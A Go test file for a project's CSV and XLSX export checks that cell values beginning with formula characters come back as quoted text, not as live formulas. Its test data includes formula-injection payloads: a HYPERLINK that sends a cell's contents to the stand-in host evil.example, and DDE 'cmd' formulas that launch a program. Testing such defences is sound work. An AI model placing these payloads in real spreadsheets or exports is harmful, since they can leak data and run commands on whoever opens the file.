package briefing_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/buurtnet/buurtnet"
	"github.com/buurtnet/buurtnet/briefing"
)

// formulas are cells a spreadsheet would run when it opens a CSV file.
var formulas = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"Klik hier")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"\x00=1+1",
	`=1+1;"quoted", and, separated`,
}

// TestCSVNeutralisesFormulas writes each formula as a text cell in both
// dialects and reads it back: it must come back as text behind a single
// quote, while numbers, negative ones too, stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	rows := [][]any{}
	for _, f := range formulas {
		rows = append(rows, []any{f, -2, buurtnet.Money(125050)})
	}
	rows = append(rows, []any{"Gewone naam", 3, nil}, []any{"a=b, -c", 0, nil})
	table := briefing.Table{Columns: []string{"=naam", "score", "amount"}, Rows: rows}
	for _, d := range []struct {
		name    string
		dialect briefing.Dialect
		amount  string
	}{{"Belgian", briefing.Belgian, "1250,50"}, {"RFC4180", briefing.RFC4180, "1250.50"}} {
		t.Run(d.name, func(t *testing.T) {
			var buf bytes.Buffer
			require.NoError(t, briefing.WriteCSV(&buf, table, d.dialect))
			cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF")))
			cr.Comma = d.dialect.Comma
			records, err := cr.ReadAll()
			require.NoError(t, err)
			require.Len(t, records, len(rows)+1)
			assert.Equal(t, []string{"'=naam", "score", "amount"}, records[0])
			for i, f := range formulas {
				// encoding/csv leaves out a lone carriage return when it ends
				// lines with CRLF.
				want := "'" + strings.ReplaceAll(f, "\r", "")
				assert.Equal(t, []string{want, "-2", d.amount}, records[i+1], "payload %q", f)
			}
			assert.Equal(t, []string{"Gewone naam", "3", ""}, records[len(formulas)+1])
			assert.Equal(t, []string{"a=b, -c", "0", ""}, records[len(formulas)+2], "only the first character counts")
		})
	}
}

// TestXLSXWritesTextNotFormulas checks that the workbook stores the same
// cells as strings: they read back unchanged, and no sheet holds a formula.
func TestXLSXWritesTextNotFormulas(t *testing.T) {
	rows := [][]any{{"=1+1", -2}}
	for _, f := range formulas {
		rows = append(rows, []any{f, 1})
	}
	var buf bytes.Buffer
	require.NoError(t, briefing.WriteXLSX(&buf, []briefing.Table{{Title: "Projecten", Columns: []string{"=naam", "score"}, Rows: rows}}))

	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	require.NoError(t, err)
	sheets := 0
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		sheets++
		rc, err := f.Open()
		require.NoError(t, err)
		xml, err := io.ReadAll(rc)
		require.NoError(t, err)
		assert.NotContains(t, string(xml), "<f>", "%s holds a formula", f.Name)
		assert.NotContains(t, string(xml), "<f ", "%s holds a formula", f.Name)
	}
	require.Equal(t, 1, sheets)

	x, err := excelize.OpenReader(&buf)
	require.NoError(t, err)
	defer x.Close()
	for r, row := range append([][]any{{"=naam", "score"}}, rows...) {
		cell, _ := excelize.CoordinatesToCellName(1, r+1)
		got, err := x.GetCellValue("Projecten", cell)
		require.NoError(t, err)
		// XML cannot hold NUL: excelize writes U+FFFD instead.
		assert.Equal(t, strings.ReplaceAll(row[0].(string), "\x00", "\uFFFD"), got, "cell %s", cell)
		formula, err := x.GetCellFormula("Projecten", cell)
		require.NoError(t, err)
		assert.Empty(t, formula, "cell %s", cell)
		typ, err := x.GetCellType("Projecten", cell)
		require.NoError(t, err)
		assert.Equal(t, excelize.CellTypeSharedString, typ, "cell %s", cell)
	}
	typ, err := x.GetCellType("Projecten", "B2")
	require.NoError(t, err)
	assert.NotEqual(t, excelize.CellTypeSharedString, typ, "a number stays a number")
}
